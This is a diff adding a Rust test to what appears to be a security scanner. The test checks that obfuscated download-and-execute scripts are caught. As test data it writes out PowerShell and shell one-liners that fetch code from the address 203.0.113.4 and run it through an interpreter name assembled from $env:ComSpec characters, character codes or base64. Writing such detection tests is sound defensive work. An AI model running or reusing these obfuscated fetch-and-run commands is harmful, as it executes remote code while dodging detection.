@@ -1155,3 +1155,33 @@ fn the_scripts_of_a_page_or_an_image_are_code() {
         "<html><body><canvas id=\"c\"></canvas>\n<script>\nconst data = [3, 5, 8];\ndocument.getElementById('c').getContext('2d').fillRect(0, 0, data[0], data[1]);\n</script>\n<button onclick=\"window.print()\">Print</button>\n</body></html>\n",
     );
 }
+
+#[test]
+fn a_command_named_by_a_computed_value_and_fed_code_runs_it() {
+    for script in [
+        "$u = \"{0}{1}\" -f \"http://203.0.113.4/\",\"p.ps1\"; $c = (New-Object Net.WebClient).DownloadString($u); & ($env:ComSpec[4,15,25] -join \"\") $c\n",
+        "$n = [string]::join(\"\", [char[]](73,69,88)); $c = (New-Object Net.WebClient).DownloadString(\"http://203.0.113.4/p\"); & $n $c\n",
+        "$c = (iwr \"http://203.0.113.4/p\").Content; .($env:ComSpec[4,15,25]-join\"\") $c\n",
+    ] {
+        caught("scripts/a.ps1", script, Rule::DownloadExec);
+    }
+    caught(
+        "scripts/a.sh",
+        "r=$(echo c2g= | base64 -d)\ncurl -s http://203.0.113.4/x | $r\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        "scripts/b.sh",
+        "curl -s http://203.0.113.4/x | $SHELL\n",
+        Rule::DownloadExec,
+    );
+    // The user's own pager, or a tool named by a constant.
+    quiet(
+        "scripts/c.sh",
+        "curl -s https://api.example.com/status | $PAGER\n",
+    );
+    quiet(
+        "scripts/d.ps1",
+        "$tool = 'Get-Date'; $r = Invoke-RestMethod https://api.example.com/t; & $tool\n",
+    );
+}
